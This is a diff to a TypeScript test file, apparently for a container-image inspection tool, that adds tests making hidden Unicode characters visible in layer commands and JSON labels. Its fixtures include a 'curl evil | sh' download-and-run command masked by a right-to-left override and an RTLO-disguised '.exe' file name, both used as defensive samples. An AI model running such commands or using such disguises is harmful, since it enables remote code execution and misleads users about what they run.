@@ -2,7 +2,8 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { briefCommand } from '../../src/app/format';
+import { briefCommand, prettyJson } from '../../src/app/format';
+import { escapeHidden } from '../../src/core/text';
 import { SHARED } from './helpers/tools';
 
 function history(path: string): string[] {
@@ -37,5 +38,23 @@ describe('briefCommand: a layer step on one line, as in a Dockerfile', () => {
   it('nothing to show for a missing entry', () => {
     expect(briefCommand(null)).toBe('');
     expect(briefCommand('')).toBe('');
+  });
+});
+
+describe('hidden characters spelled out', () => {
+  it('a one-line command spells them out; a multi-line text keeps its line breaks', () => {
+    expect(briefCommand('/bin/sh -c echo safe \u202e# ; curl evil | sh')).toBe(
+      'RUN echo safe \\u202E# ; curl evil | sh',
+    );
+    expect(escapeHidden('apt-get update \\\n\t&& \u2066x', true)).toBe('apt-get update \\\n\t&& \\u2066x');
+    expect(escapeHidden('a\nb\u0007')).toBe('a\\nb\\u0007');
+  });
+
+  it('raw JSON: the escapes are JSON escapes, so the text is the same document', () => {
+    const doc = { config: { Labels: { download: 'a\u202egnp.exe', bell: '\u0007' } } };
+    const shown = prettyJson(JSON.stringify(doc));
+    expect(shown).toContain('"download": "a\\u202Egnp.exe"');
+    expect(shown).not.toMatch(/[\u202e\u0007]/);
+    expect(JSON.parse(shown)).toEqual(doc);
   });
 });
